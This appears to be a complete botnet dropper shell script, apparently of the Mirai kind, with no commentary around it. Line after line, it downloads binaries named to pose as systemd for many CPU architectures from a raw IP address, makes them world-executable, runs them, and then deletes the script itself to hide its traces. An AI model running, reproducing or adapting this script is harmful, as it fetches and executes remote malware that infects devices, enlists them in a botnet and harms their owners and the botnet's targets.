wget http://23.146.184.21/bins/systemd.arm; chmod 777 systemd.arm; ./systemd.arm systemctlarm
wget http://23.146.184.21/bins/systemd.arm5; chmod 777 systemd.arm5; ./systemd.arm5 systemctlarm5
wget http://23.146.184.21/bins/systemd.arm6; chmod 777 systemd.arm6; ./systemd.arm6 systemctlarm6
wget http://23.146.184.21/bins/systemd.arm7; chmod 777 systemd.arm7; ./systemd.arm7 systemctlarm7
wget http://23.146.184.21/bins/systemd.m68k; chmod 777 systemd.m68k; ./systemd.m68k systemctl
wget http://23.146.184.21/bins/systemd.mips; chmod 777 systemd.mips; ./systemd.mips systemctlmips
wget http://23.146.184.21/bins/systemd.mpsl; chmod 777 systemd.mpsl; ./systemd.mpsl systemctlmpsl
wget http://23.146.184.21/bins/systemd.ppc; chmod 777 systemd.ppc; ./systemd.ppc systemctl
wget http://23.146.184.21/bins/systemd.sh4; chmod 777 systemd.sh4; ./systemd.sh4 systemctl
wget http://23.146.184.21/bins/systemd.spc; chmod 777 systemd.spc; ./systemd.spc systemctl
wget http://23.146.184.21/bins/systemd.x86; chmod 777 systemd.x86; ./systemd.x86 systemctlx86
wget http://23.146.184.21/bins/systemd.x86_64; chmod 777 systemd.x86_64; ./systemd.x86_64 systemctlx86_64

rm $0
